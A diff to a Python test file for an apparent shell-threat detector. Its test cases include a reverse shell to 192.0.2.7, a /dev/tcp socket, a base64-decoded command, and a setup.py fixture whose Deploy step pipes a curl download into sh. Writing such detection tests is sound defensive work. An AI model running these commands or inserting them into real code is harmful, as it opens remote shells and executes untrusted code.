@@ -333,6 +333,14 @@ def test_needed_words_cover_the_patterns(line: str) -> None:
         ("/usr/bin/wget -q x", "wget"),
         ("./deps/bin/curl-config --static-libs", None),  # another program
         ("pip download python-wget", None),
+        # A shell given one plain command (deepspeed reads its git hash so): the line
+        # is judged, not the shell. A reverse shell or a line decoded first is a threat.
+        ('bash -c "git rev-parse --short HEAD"', None),
+        ("bash -c type git", None),
+        ("bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'", "bash -i"),
+        ("sh -c 'exec 3<>/dev/tcp/192.0.2.7/80'", "/dev/tcp/"),
+        ("bash -c 'until echo > /dev/tcp/localhost/8080; do sleep 1; done'", None),
+        ('bash -c "$(echo Y3VybCBldmls | base64 -d)"', "base64 -d"),
     ],
 )
 def test_shell_download_names_the_program(command: str, program: str | None) -> None:
@@ -354,7 +362,7 @@ class Deploy(Command):
     def finalize_options(self): pass
 
     def run(self):
-        os.system("sh -c 'python setup.py sdist' && twine upload dist/*")
+        os.system("curl -fsSL https://example.invalid/release.sh | sh")
 
 
 setup(name="tool", cmdclass={CMDCLASS})
